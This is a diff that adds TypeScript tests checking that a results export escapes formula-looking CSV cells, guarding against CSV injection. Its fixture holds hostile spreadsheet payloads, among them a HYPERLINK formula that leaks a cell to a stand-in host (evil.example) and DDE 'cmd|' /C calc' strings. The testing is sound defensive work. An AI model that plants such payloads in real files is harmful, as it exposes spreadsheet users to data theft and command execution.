@@ -10,7 +10,7 @@ import { casesStamp } from '../../db/cases-stamp';
 import { LabelledRunCache } from './labelled-run';
 import { BatchResultsExport } from './results-export-service';
 import type { LabelledRunRow } from './labelled-run';
-import { flatRow, resultColumns, resultRows, type ResultRow } from './results-export';
+import { flatRow, resultColumns, resultRows, type ResultRow, writeResults } from './results-export';
 import { setCasesKey } from './set-case-source';
 
 /**
@@ -217,5 +217,58 @@ describe('a batch run’s results export', () => {
     expect(resultColumns(sampleQuestions)).toEqual(
       expect.arrayContaining(['tone.problems', 'cats.problems']),
     );
+  });
+});
+
+describe('formula cells in a results export (CSV injection)', () => {
+  const hostile: ResultRow = {
+    case: 1,
+    state: '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
+    caseState: 'text',
+    expected: { tone: "@SUM(1+9)*cmd|' /C calc'!A0" },
+    status: 'failed',
+    model: "+cmd|' /C calc'!A0",
+    answers: {
+      tone: { option: '-2+3', probability: 0.5 },
+      quality: { level: undefined, probabilities: [undefined, undefined, undefined] },
+      // A number as the gateway sent it, out of range: flagged, and still a number in the file.
+      cats: { value: -0.5, threshold: 0.7, verdict: undefined, problems: ['\t=1+1'] },
+    },
+    inputTokens: undefined,
+    latencyMs: undefined,
+    error: '\r=1+1',
+  };
+  const cellsOf = (text: string) => {
+    const [header, row] = parseCsv(text).map((r) => r.fields);
+    return Object.fromEntries(header.map((c, i) => [c, row[i]]));
+  };
+
+  it('writes every formula-looking cell with a leading apostrophe, numbers as numbers', () => {
+    const cells = cellsOf(writeResults(sampleQuestions, [hostile], 'csv'));
+    expect(cells).toMatchObject({
+      state: `'${hostile.state}`,
+      'expected.tone': `'${String(hostile.expected.tone)}`,
+      model: `'${hostile.model}`,
+      'tone.option': "'-2+3",
+      'cats.problems': "'\t=1+1",
+      error: "'\r=1+1",
+      'cats.value': '-0.5',
+      'cats.threshold': '0.7',
+    });
+    for (const [column, value] of Object.entries(cells))
+      expect(/^[=+@\t\r]|^-(?!0\.5$)/.test(value), `${column}: ${value}`).toBe(false);
+  });
+
+  it('writes them as they are in raw CSV, and always in JSON Lines', () => {
+    const raw = cellsOf(writeResults(sampleQuestions, [hostile], 'csv', { raw: true }));
+    expect(raw).toMatchObject({
+      state: hostile.state,
+      model: hostile.model,
+      error: '\r=1+1',
+      'tone.option': '-2+3',
+    });
+    const jsonl = JSON.parse(writeResults(sampleQuestions, [hostile], 'jsonl')) as ResultRow;
+    expect(jsonl.state).toBe(hostile.state);
+    expect(jsonl.model).toBe(hostile.model);
   });
 });
